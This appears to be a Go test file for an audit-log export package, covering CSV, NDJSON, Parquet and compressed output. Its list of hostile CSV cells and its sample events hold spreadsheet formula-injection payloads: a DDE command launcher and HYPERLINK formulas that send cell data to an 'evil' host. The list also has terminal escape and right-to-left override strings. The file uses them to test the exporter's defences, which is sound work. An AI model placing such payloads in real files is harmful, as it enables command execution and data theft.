package export_test

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"
	"github.com/parquet-go/parquet-go"

	"github.com/daybook-audit/daybook"
	"github.com/daybook-audit/daybook/server/internal/control"
	"github.com/daybook-audit/daybook/server/internal/doortest"
	"github.com/daybook-audit/daybook/server/internal/export"
	"github.com/daybook-audit/daybook/storetest"
)

// sample are events with every member, with few, with hostile text, and with free data of every type.
var sample = []string{
	`{"id":"evt_01m7z7rs1affyad5cmxxj94a79","action":"invoice.updated","version":3,"occurred_at":"2026-11-21T14:22:07.318Z",` +
		`"actor":{"type":"user","id":"usr_7","name":"Grace Hopper","email":"grace@acme.com","metadata":{"team":"billing"},"via":[{"type":"user","id":"usr_1","name":"Ada Byron"}]},` +
		`"targets":[{"type":"invoice","id":"42","name":"Invoice 42","metadata":{"region":"eu"}},{"type":"account","id":"a,1","name":"The \"big\" one"}],` +
		`"context":{"ip":"203.0.113.9","user_agent":"Firefox/149.0","request_id":"req_5","trace_id":"4bf9","session_id":"s_1",` +
		`"http":{"method":"PUT","route":"/invoices/{id}","path":"/invoices/42","status_code":200,"params":{"a":[1]},"request":{},"response":"ok"}},` +
		`"outcome":"failure","error":{"code":"limit","message":"over the limit"},"changes":[{"path":"/amount","old":"1200.00","new":1450.10}],` +
		`"reason":"PO 7781","correlation_id":"job_9","metadata":{"plan":"pro","n":9007199254740993,"x":1.10}}`,
	`{"id":"evt_01m7z7rtk9fc29sdmq1s63t63k","action":"user.login","actor":{"type":"user","id":"usr_9","name":"=HYPERLINK(\"http://evil\")"},"reason":"+1\nsecond line","error":null,"context":{"ip":"2001:db8::9"}}`,
	`{"id":"evt_01m7z7rtk9fc29sdmq1s63t63m","\u0061ction":"caf\u00e9.opened","occurred_at":"2026-11-21T15:22:08.123456789+01:00","actor":{"type":"user","id":"\ud83d\ude00","email":" led by a space"},"targets":[]}`,
}

// book holds texts, in blocks.
func book(t testing.TB, texts ...string) *daybook.Book {
	t.Helper()
	at := time.Date(2026, 11, 21, 14, 22, 9, 0, time.UTC) // it stands still: received_at rises by a microsecond
	b, err := daybook.Open(t.Context(), storetest.Memory(), daybook.Options{Now: func() time.Time { return at }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	})
	for batch := range slices.Chunk(texts, 500) {
		events := make([][]byte, len(batch))
		for i, text := range batch {
			events[i] = []byte(text)
		}
		if _, err := b.RecordJSON(t.Context(), "org_acme", daybook.Request{Events: events}); err != nil {
			t.Fatal(err)
		}
	}
	if err := b.Settle(t.Context()); err != nil {
		t.Fatal(err)
	}
	return b
}

// passages records texts and reads them back.
func passages(t testing.TB, texts ...string) []*daybook.Passage {
	t.Helper()
	var ps []*daybook.Passage
	for p, err := range book(t, texts...).Passages(t.Context(), daybook.PassageQuery{Org: "org_acme"}) {
		if err != nil {
			t.Fatal(err)
		}
		ps = append(ps, p)
	}
	return ps
}

func file(t testing.TB, x control.Export, ps []*daybook.Passage) []byte {
	t.Helper()
	x.Org, x.ID = "org_acme", "exp_01m7w2y7m0fhra2avt0s3fj8ks"
	b, err := export.File(&x, ps, 1)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// withoutHashes hides what is random.
func withoutHashes(t *testing.T, ps []*daybook.Passage, text string) string {
	t.Helper()
	for _, p := range ps {
		es, err := p.Open(nil, true)
		if err != nil {
			t.Fatal(err)
		}
		for i := range es {
			hash, err := json.Marshal(es[i].LeafHash[:])
			if err != nil {
				t.Fatal(err)
			}
			if n := strings.Count(text, strings.Trim(string(hash), `"`)); n > 1 {
				t.Errorf("the leaf hash of entry %d stands %d times", es[i].Seq, n)
			}
			leaf := fmt.Sprintf("LEAF-%d", es[i].Seq)
			text = strings.ReplaceAll(text, strings.Trim(string(hash), `"`), leaf)
			text = strings.ReplaceAll(text, `"'`+leaf+`"`, leaf) // one in 64 begins with +
		}
	}
	return text
}

func TestGolden(t *testing.T) {
	t.Parallel()
	ps := passages(t, sample...)
	for name, x := range map[string]control.Export{
		"csv":         {Format: export.CSV},
		"csv_columns": {Format: export.CSV, Columns: []string{"reason", "seq", "actor_name"}},
		"csv_raw":     {Format: export.CSV, Columns: []string{"reason", "actor_name", "actor_email"}, Raw: true},
		"ndjson":      {Format: export.NDJSON},
		"workos":      {Format: export.WorkOS, Door: "workos", Width: 3, Raw: true},
	} {
		doortest.Golden(t, name, withoutHashes(t, ps, string(file(t, x, ps))))
	}
	if n, err := export.Widest(ps[0]); err != nil || n != 2 {
		t.Errorf("the widest event has %d targets, %v", n, err)
	}
}

// TestEmpty: a file without entries is one that readers take.
func TestEmpty(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ format, compression, want string }{
		{export.CSV, export.Plain, strings.Join(export.Columns(), ",") + "\r\n"},
		{export.NDJSON, export.Plain, ""},
		{export.NDJSON, export.Gzip, ""},
		{export.NDJSON, export.Zstd, ""},
	} {
		if got := plain(t, c.compression, file(t, control.Export{Format: c.format, Compression: c.compression}, nil)); got != c.want {
			t.Errorf("%s %s: %q", c.format, c.compression, got)
		}
	}
	if got := readParquet(t, file(t, control.Export{Format: export.Parquet}, nil)); len(got) != 0 {
		t.Errorf("%d rows", len(got))
	}
}

// plain undoes a compression with another reader than the writer's package.
func plain(t *testing.T, how string, b []byte) string {
	t.Helper()
	var r io.Reader = bytes.NewReader(b)
	switch how {
	case export.Gzip:
		z, err := gzip.NewReader(r)
		if err != nil {
			t.Fatal(err)
		}
		r = z
	case export.Zstd:
		z, err := zstd.NewReader(r)
		if err != nil {
			t.Fatal(err)
		}
		defer z.Close()
		r = z
	}
	out, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

// TestCompressed: pieces that are compressed for themselves are one file.
func TestCompressed(t *testing.T) {
	t.Parallel()
	ps := passages(t, sample...)
	ps = append(ps, ps...)
	want := string(file(t, control.Export{Format: export.NDJSON}, ps))
	for _, how := range []string{export.Gzip, export.Zstd} {
		if got := plain(t, how, file(t, control.Export{Format: export.NDJSON, Compression: how}, ps)); got != want {
			t.Errorf("%s: %d bytes, want %d", how, len(got), len(want))
		}
	}
}

// readParquet reads every row with the column names.
func readParquet(t *testing.T, b []byte) []map[string]any {
	t.Helper()
	f, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	names := f.Schema().Columns()
	for _, g := range f.RowGroups() {
		r := g.Rows()
		buf := make([]parquet.Row, 16)
		for {
			n, err := r.ReadRows(buf)
			for _, row := range buf[:n] {
				m := map[string]any{}
				for _, v := range row {
					switch name := names[v.Column()][0]; {
					case v.IsNull():
					case v.Kind() == parquet.Int64:
						m[name] = v.Int64()
					default:
						m[name] = string(v.ByteArray())
					}
				}
				rows = append(rows, m)
			}
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		if err := r.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if int64(len(rows)) != f.NumRows() {
		t.Errorf("%d rows, the footer says %d", len(rows), f.NumRows())
	}
	return rows
}

// TestParquet: the rows are those of the CSV file, in columns of their types and order, whatever number of row groups they are in.
func TestParquet(t *testing.T) {
	t.Parallel()
	ps := passages(t, sample...)
	ps = append(ps, ps...)
	b := file(t, control.Export{Format: export.Parquet}, ps)
	f, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	doortest.Golden(t, "parquet_schema", f.Schema().String()+"\n")
	if len(f.RowGroups()) != 2 {
		t.Errorf("%d row groups", len(f.RowGroups()))
	}
	if org, _ := f.Lookup("daybook.org"); org != "org_acme" {
		t.Errorf("the file says it is of %q", org)
	}
	lines, err := csv.NewReader(bytes.NewReader(file(t, control.Export{Format: export.CSV, Raw: true}, ps))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	rows := readParquet(t, b)
	if len(rows) != len(lines)-1 || len(rows) != 6 {
		t.Fatalf("%d rows, the CSV has %d lines", len(rows), len(lines))
	}
	for i, row := range rows {
		for k, name := range lines[0] {
			want := lines[i+1][k]
			var got string
			switch v := row[name].(type) {
			case int64:
				got = strconv.FormatInt(v, 10)
				if name == "received_at" || name == "occurred_at" {
					at, err := time.Parse(time.RFC3339, want)
					if err != nil {
						t.Fatal(err)
					}
					want = strconv.FormatInt(at.UnixMicro(), 10)
				}
			case string:
				got = v
			}
			if got != want {
				t.Errorf("row %d, %s: %q, the CSV has %q", i, name, got, want)
			}
		}
	}
}

// hostile are cells that a spreadsheet, a CSV reader or a terminal may take for something else.
var hostile = func() []string {
	cells := []string{"", " ", "plain", `"`, `""`, `a"b`, ",", "a,b", "\n", "a\nb", "\r\n", "a\rb", "'", "'=1", " lead", "trail ", "\u00a0", "\ufeffbom", "é", "\u202egnp.exe", "\x1b[2J", "null", "-", "--", "1e5", "00123"}
	for _, c := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
		cells = append(cells, c, c+"1+1", c+`cmd|' /C calc'!A0`, c+`HYPERLINK("http://evil?"&A1,"x")`)
	}
	return cells
}()

// TestCSVCells: no cell begins as a formula, and what two other readers read is what was written, but for the quote in front.
func TestCSVCells(t *testing.T) {
	t.Parallel()
	if len(hostile) < 60 {
		t.Fatalf("only %d cells", len(hostile))
	}
	for _, guard := range []bool{true, false} {
		var file strings.Builder
		var want []string
		for _, text := range hostile {
			cell := export.Cell(text, guard)
			if guard && strings.ContainsAny(firstOf(strings.TrimPrefix(cell, `"`)), "=+-@\t\r＝＋－＠") {
				t.Errorf("%q is written as %q", text, cell)
			}
			file.WriteString("x," + cell + "\r\n")
			if guard && strings.ContainsAny(firstOf(text), "=+-@\t\r＝＋－＠") {
				text = "'" + text
			}
			want = append(want, text)
		}
		if d := cmp.Diff(want, pythonCells(t, file.String())); d != "" {
			t.Errorf("guard %v: Python reads (-want +got):\n%s", guard, d)
		}
	}
}

func firstOf(s string) string {
	for _, c := range s {
		return string(c)
	}
	return "."
}

// pythonCells returns the second cell of each line as Python's csv module reads it.
func pythonCells(t *testing.T, text string) []string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "python3", "-c", `
import csv, io, json, sys
text = sys.stdin.buffer.read().decode()
print(json.dumps([row[1] for row in csv.reader(io.StringIO(text, newline=""))]))`)
	cmd.Stdin = strings.NewReader(text)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	if err := json.Unmarshal(out, &cells); err != nil {
		t.Fatal(err)
	}
	return cells
}

// FuzzCSV: any text survives a CSV reader, and no cell of any begins a formula.
func FuzzCSV(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got, err := csv.NewReader(strings.NewReader("x," + export.Cell(text, true) + "\r\n")).Read()
		if err != nil || len(got) != 2 {
			t.Fatalf("%q: %v, %d cells", text, err, len(got))
		}
		back := got[1]
		if strings.ContainsAny(firstOf(back), "=+-@\t\r＝＋－＠") {
			t.Errorf("%q is read as %q", text, back)
		}
		// Go's reader drops the carriage return before a newline.
		if text = strings.ReplaceAll(text, "\r\n", "\n"); back != text && back != "'"+text {
			t.Errorf("%q is read as %q", text, back)
		}
	})
}

func TestRefuses(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		x     control.Export
		field string
		holds string
	}{
		{control.Export{Format: "xlsx"}, "/format", "csv, ndjson, parquet"},
		{control.Export{Format: export.WorkOS}, "/format", "there is no format"},
		{control.Export{Format: export.CSV, Compression: "lzma"}, "/compression", "none, gzip, zstd"},
		{control.Export{Format: export.Parquet, Compression: export.Gzip}, "/compression", "zstd"},
		{control.Export{Format: export.CSV, Columns: []string{"actor_nam"}}, "/columns", "did you mean actor_name?"},
		{control.Export{Format: export.CSV, Columns: []string{"seq", "seq"}}, "/columns", "twice"},
		{control.Export{Format: export.NDJSON, Columns: []string{"seq"}}, "/columns", "no columns"},
	} {
		_, err := export.File(&c.x, nil, 1)
		var coded *daybook.Error
		if !errors.As(err, &coded) || coded.Code != daybook.CodeInvalid || coded.Field != c.field || !strings.Contains(coded.Message, c.holds) {
			t.Errorf("%+v: %v", c.x, err)
		}
	}
}

// TestParquetAgain: a writer of row groups that is used again writes the same bytes as a new one, whatever it wrote before.
func TestParquetAgain(t *testing.T) {
	t.Parallel()
	ps := passages(t, `{"action":"a.b","actor":{"type":"user","id":"u"},"reason":"`+strings.Repeat("long ", 4000)+`","metadata":{"k":[1,2]}}`, `{"action":"a.c","actor":{"type":"user","id":"v"}}`)
	pages := func(ps ...*daybook.Passage) []byte {
		out, err := export.File(&control.Export{Format: export.Parquet}, ps, 1)
		if err != nil {
			t.Fatal(err)
		}
		footer := int(binary.LittleEndian.Uint32(out[len(out)-8:]))
		return out[4 : len(out)-8-footer]
	}
	one := pages(ps[0])
	if again := pages(ps[0], ps[0], ps[0]); !bytes.Equal(again, bytes.Repeat(one, 3)) {
		t.Errorf("three times the same row group has %d bytes, once %d", len(again), len(one))
	}
}

// Passages whose memory was given back are filled again, and show nothing of what they held.
func TestRelease(t *testing.T) {
	t.Parallel()
	texts := make([]string, 2000)
	for i := range texts {
		texts[i] = fmt.Sprintf(`{"action":"a.b","actor":{"type":"user","id":"u%d"},"reason":"%s"}`, i, strings.Repeat("x", i%700))
	}
	b := book(t, texts...)
	var kept, given []byte
	for p, err := range b.Passages(t.Context(), daybook.PassageQuery{Org: "org_acme"}) {
		if err != nil {
			t.Fatal(err)
		}
		kept = appendEntries(t, kept, p)
	}
	for p, err := range b.Passages(t.Context(), daybook.PassageQuery{Org: "org_acme"}) {
		if err != nil {
			t.Fatal(err)
		}
		given = appendEntries(t, given, p)
		p.Release()
	}
	if !bytes.Equal(kept, given) {
		t.Error("with Release other entries are read")
	}
}

func appendEntries(t *testing.T, dst []byte, p *daybook.Passage) []byte {
	t.Helper()
	es, err := p.Open(nil, true)
	if err != nil {
		t.Fatal(err)
	}
	for i := range es {
		dst = append(es[i].AppendJSON(dst), '\n')
	}
	return dst
}
